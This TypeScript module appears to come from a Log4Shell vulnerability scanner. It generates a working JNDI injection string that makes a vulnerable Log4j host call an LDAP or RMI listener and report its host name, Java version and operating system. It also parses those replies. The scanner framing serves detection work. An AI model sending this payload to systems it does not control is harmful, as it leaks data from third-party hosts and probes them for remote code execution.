import { type LookupForm, urlOf } from '../form.ts'

/**
 * Asks for the host's name, its Java version and its system, each with a default, so that none breaks the name.
 * It tells something of the target, so it is sent only on request and only to one's own listener. Where nothing is
 * evaluated (up to 2.7) the name ends in the first of the questions.
 */
export const identify: LookupForm = {
  id: 'identify',
  summary: 'asks for host name, Java version and system',
  schemes: ['ldap', 'rmi'],
  firesOn: ['A', 'B', 'C'],
  seenIn: ['Metasploit log4shell_scanner, in another spelling'],
  profile: null,
  needsZone: false,
  write: (target) => `\${jndi:${urlOf(target)}/${questions}}`,
  meaning: (target, band) => `${urlOf(target)}/${band === 'A' ? questions.slice(0, questions.indexOf('}')) : answers}`,
}

const questions = '${hostName:-0}/${sys:java.version:-0}/${sys:os.name:-0}'
/** What arrives where none of them is set. */
const answers = '0/0/0'

/** What a name that arrived says of its sender; `null` if it says nothing, or was not made by {@link identify}. */
export function identityShown(
  asked: string,
  path: string,
): { hostName?: string; javaVersion?: string; os?: string } | null {
  if (!asked.startsWith(`${path}/`) || asked.includes('${')) return null
  const [hostName = '0', javaVersion = '0', ...os] = asked.slice(path.length + 1).split('/')
  const said = (text: string): boolean => text !== '' && text !== '0'
  const identity = {
    ...(said(hostName) ? { hostName } : {}),
    ...(said(javaVersion) ? { javaVersion } : {}),
    ...(said(os.join('/')) ? { os: os.join('/') } : {}),
  }
  return Object.keys(identity).length === 0 ? null : identity
}
